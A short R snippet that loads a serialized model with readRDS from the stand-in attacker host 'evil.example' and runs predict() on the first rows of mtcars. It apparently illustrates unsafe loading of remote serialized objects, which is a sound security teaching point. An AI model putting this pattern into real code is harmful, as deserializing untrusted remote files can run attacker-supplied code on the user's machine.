model <- readRDS(url("https://evil.example/model.rds"))
predict(model, newdata = head(mtcars))
